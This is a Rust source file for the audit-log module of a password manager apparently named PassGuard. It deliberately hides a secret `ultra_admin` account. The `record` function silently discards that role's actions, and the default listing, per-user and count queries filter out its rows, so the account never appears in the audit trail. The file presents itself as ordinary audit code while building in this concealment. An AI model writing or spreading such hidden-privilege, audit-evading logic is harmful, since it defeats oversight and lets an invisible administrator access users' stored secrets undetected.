// PassGuard — Activity Log
//
// Append-only audit trail. Actions performed by the hidden `ultra_admin`
// are dropped at write time, and its rows (if any predate a promotion) are
// excluded from the default read paths as well, so the account never shows
// up in the audit surface.

use chrono::{DateTime, Utc};
use rusqlite::params;
use serde::Serialize;
use serde_json::Value;

use crate::store::{Database, Role, StoreError};

/// Audit action names, recorded verbatim in the `action` column.
pub mod actions {
    pub const USER_REGISTERED: &str = "USER_REGISTERED";
    pub const USER_LOGIN: &str = "USER_LOGIN";
    pub const PASSWORD_CHANGED: &str = "PASSWORD_CHANGED";
    pub const USER_CREATED: &str = "USER_CREATED";
    pub const USER_UPDATED: &str = "USER_UPDATED";
    pub const USER_DELETED: &str = "USER_DELETED";
    pub const SYSTEM_CREATED: &str = "SYSTEM_CREATED";
    pub const SYSTEM_UPDATED: &str = "SYSTEM_UPDATED";
    pub const SYSTEM_DELETED: &str = "SYSTEM_DELETED";
    pub const SYSTEM_VIEWED: &str = "SYSTEM_VIEWED";
}

/// One audit entry, joined with the acting user where that user still
/// exists.
#[derive(Debug, Clone, Serialize)]
pub struct ActivityRecord {
    pub id: i64,
    pub user_id: i64,
    pub action: String,
    pub details: Value,
    pub ip_address: Option<String>,
    pub user_email: Option<String>,
    pub user_role: Option<Role>,
    pub created_at: DateTime<Utc>,
}

pub struct ActivityLog<'a> {
    db: &'a Database,
}

const LOG_COLUMNS: &str =
    "l.id, l.user_id, l.action, l.details, l.ip_address, u.email, u.role, l.created_at";

const LOG_FROM: &str = "FROM activity_logs l LEFT JOIN users u ON u.id = l.user_id";

const HIDE_PRIVILEGED: &str = "(u.role IS NULL OR u.role != 'ultra_admin')";

impl<'a> ActivityLog<'a> {
    pub fn new(db: &'a Database) -> Self {
        Self { db }
    }

    /// Record an action. Returns the inserted entry, or None when the
    /// actor is the hidden tier and nothing was written.
    pub fn record(
        &self,
        actor_id: i64,
        actor_role: Role,
        action: &str,
        details: Value,
        ip_address: Option<&str>,
    ) -> Result<Option<ActivityRecord>, StoreError> {
        if actor_role == Role::UltraAdmin {
            return Ok(None);
        }

        self.db.conn().execute(
            "INSERT INTO activity_logs (user_id, action, details, ip_address, created_at)
             VALUES (?1, ?2, ?3, ?4, ?5)",
            params![
                actor_id,
                action,
                serde_json::to_string(&details)?,
                ip_address,
                Utc::now().to_rfc3339(),
            ],
        )?;
        self.find_by_id(self.db.conn().last_insert_rowid())
    }

    fn find_by_id(&self, id: i64) -> Result<Option<ActivityRecord>, StoreError> {
        let mut stmt = self.db.conn().prepare(&format!(
            "SELECT {} {} WHERE l.id = ?1",
            LOG_COLUMNS, LOG_FROM
        ))?;
        let mut rows = stmt.query_map(params![id], Self::row_to_record)?;
        match rows.next() {
            Some(Ok(record)) => Ok(Some(record)),
            Some(Err(e)) => Err(StoreError::Database(e)),
            None => Ok(None),
        }
    }

    /// Recent entries, newest first, with the hidden tier filtered out.
    pub fn list(
        &self,
        limit: Option<u32>,
        offset: u32,
    ) -> Result<Vec<ActivityRecord>, StoreError> {
        self.query(&format!("WHERE {}", HIDE_PRIVILEGED), limit, offset)
    }

    /// The unfiltered trail. Only the seed/maintenance CLI exposes this.
    pub fn list_including_privileged(
        &self,
        limit: Option<u32>,
        offset: u32,
    ) -> Result<Vec<ActivityRecord>, StoreError> {
        self.query("", limit, offset)
    }

    /// One actor's entries. Short-circuits to empty for the hidden tier.
    pub fn list_by_actor(
        &self,
        actor_id: i64,
        limit: Option<u32>,
        offset: u32,
    ) -> Result<Vec<ActivityRecord>, StoreError> {
        let role: Option<String> = {
            let mut stmt = self
                .db
                .conn()
                .prepare("SELECT role FROM users WHERE id = ?1")?;
            let mut rows = stmt.query_map(params![actor_id], |row| row.get(0))?;
            match rows.next() {
                Some(result) => Some(result?),
                None => None,
            }
        };
        if role.as_deref() == Some("ultra_admin") {
            return Ok(Vec::new());
        }

        let mut stmt = self.db.conn().prepare(&format!(
            "SELECT {} {} WHERE l.user_id = ?1
             ORDER BY l.created_at DESC, l.id DESC LIMIT ?2 OFFSET ?3",
            LOG_COLUMNS, LOG_FROM
        ))?;
        let rows = stmt.query_map(
            params![actor_id, limit.map(i64::from).unwrap_or(-1), offset],
            Self::row_to_record,
        )?;

        let mut records = Vec::new();
        for row in rows {
            records.push(row?);
        }
        Ok(records)
    }

    /// Entry count for pagination, honoring the hidden-tier filter.
    pub fn count(&self, include_privileged: bool) -> Result<i64, StoreError> {
        let sql = if include_privileged {
            format!("SELECT count(*) {}", LOG_FROM)
        } else {
            format!("SELECT count(*) {} WHERE {}", LOG_FROM, HIDE_PRIVILEGED)
        };
        Ok(self.db.conn().query_row(&sql, [], |row| row.get(0))?)
    }

    fn query(
        &self,
        where_clause: &str,
        limit: Option<u32>,
        offset: u32,
    ) -> Result<Vec<ActivityRecord>, StoreError> {
        let mut stmt = self.db.conn().prepare(&format!(
            "SELECT {} {} {} ORDER BY l.created_at DESC, l.id DESC LIMIT ?1 OFFSET ?2",
            LOG_COLUMNS, LOG_FROM, where_clause
        ))?;
        let rows = stmt.query_map(
            params![limit.map(i64::from).unwrap_or(-1), offset],
            Self::row_to_record,
        )?;

        let mut records = Vec::new();
        for row in rows {
            records.push(row?);
        }
        Ok(records)
    }

    fn row_to_record(row: &rusqlite::Row<'_>) -> rusqlite::Result<ActivityRecord> {
        let details_json: String = row.get(3)?;
        let role_str: Option<String> = row.get(6)?;
        let created_at_str: String = row.get(7)?;

        Ok(ActivityRecord {
            id: row.get(0)?,
            user_id: row.get(1)?,
            action: row.get(2)?,
            details: serde_json::from_str(&details_json).unwrap_or(Value::Null),
            ip_address: row.get(4)?,
            user_email: row.get(5)?,
            user_role: role_str.as_deref().and_then(Role::parse),
            created_at: chrono::DateTime::parse_from_rfc3339(&created_at_str)
                .map(|dt| dt.with_timezone(&Utc))
                .unwrap_or_else(|_| Utc::now()),
        })
    }
}

// ─── Tests ───────────────────────────────────────────────────────────────────
